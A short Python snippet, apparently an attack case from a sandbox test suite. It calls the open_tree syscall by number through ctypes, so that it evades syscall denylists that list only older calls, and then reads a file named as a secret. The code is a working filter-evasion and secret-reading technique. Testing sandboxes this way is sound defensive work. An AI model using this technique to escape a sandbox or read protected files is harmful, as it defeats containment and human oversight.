"""Clones a mount by `open_tree`, one of the newer calls that lists of old ones lack."""

import ctypes
import os


def attack(A):
    libc = ctypes.CDLL(None, use_errno=True)
    folder, _, name = TARGET["secret"].rpartition("/")
    number, here = ctypes.c_long(428), ctypes.c_long(-100)
    tree = libc.syscall(number, here, folder.encode(), ctypes.c_long(0o2000000))
    if tree < 0:
        raise OSError(ctypes.get_errno(), "open_tree")
    return os.read(os.open(name, os.O_RDONLY, dir_fd=tree), 100).decode()
